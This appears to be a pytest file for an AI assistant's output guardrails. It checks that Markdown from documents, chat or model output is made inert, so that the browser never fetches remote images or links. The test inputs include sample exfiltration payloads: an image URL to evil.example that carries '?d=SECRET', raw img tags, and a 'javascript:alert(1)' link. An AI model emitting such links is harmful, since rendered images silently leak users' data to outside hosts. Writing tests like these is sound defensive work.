"""Issue 17, probe 6: Markdown from documents, chat and models never makes the browser fetch anything."""

from __future__ import annotations

import ast
import re
from pathlib import Path

import pytest

from assistant.guardrails.output import check_output, check_urls, inert_markdown

UI = Path(__file__).resolve().parents[2] / "assistant" / "ui"


@pytest.mark.parametrize("text", [
    "Answer ![chart](https://evil.example/p.png?d=SECRET) done",
    "![x](//evil.example/x.png)",
    "![a][r]\n\n[r]: https://x.example/i.png",
    '<img src="https://e.example/x.png">',
    "See [the guidance](https://evil.example/?q=data) and <https://evil.example/a> or https://evil.example/b.",
    "[click](javascript:alert(1))",
])
def test_nothing_remote_survives_as_markup(text: str) -> None:
    from markdown_it import MarkdownIt

    rendered = MarkdownIt("commonmark", {"linkify": False}).render(inert_markdown(text))
    assert not re.search(r"<img|<a\s|src=|href=", rendered), rendered


def test_local_anchors_and_code_are_kept() -> None:
    text = "See [section 3](#s-3).\n\n```\n![x](https://a.example/c)\n```\n"
    assert inert_markdown(text) == text


def test_output_check_reports_images_and_external_links() -> None:
    checks = [i.check for i in check_urls("![t](https://e.example/t.png) [g](https://gov.example)")]
    assert checks == ["remote_image", "external_link"]
    assert "remote_image" in [i.check for i in check_output("Summary ![t](https://e.example/t.png)")]
    assert check_urls("Plain answer with [a local anchor](#top).") == []


def test_every_ui_markdown_of_variable_text_is_made_inert() -> None:
    """Walk the UI: st.markdown / placeholder.markdown of anything but a literal goes through safe_markdown."""
    unsafe = []
    for path in sorted(UI.rglob("*.py")):
        for node in ast.walk(ast.parse(path.read_text(encoding="utf-8"))):
            if not (isinstance(node, ast.Call) and isinstance(node.func, ast.Attribute)
                    and node.func.attr == "markdown" and node.args):
                continue
            arg = node.args[0]
            while isinstance(arg, ast.BinOp):  # safe_markdown(x) + " ▌"
                arg = arg.left
            literal = isinstance(arg, ast.Constant)
            if isinstance(arg, ast.Call) and getattr(arg.func, "attr", "") == "link_markers" and arg.args:
                arg = arg.args[0]  # our own citation anchors, added to text that was made inert first
            wrapped = isinstance(arg, ast.Call) and getattr(arg.func, "attr", "") == "safe_markdown"
            trusted = isinstance(arg, ast.JoinedStr) and path.name in {"settings.py", "export.py", "projects.py",
                                                                        "shell.py"}
            if not (literal or wrapped or trusted):
                unsafe.append(f"{path.name}:{node.lineno}")
    assert unsafe == [], unsafe
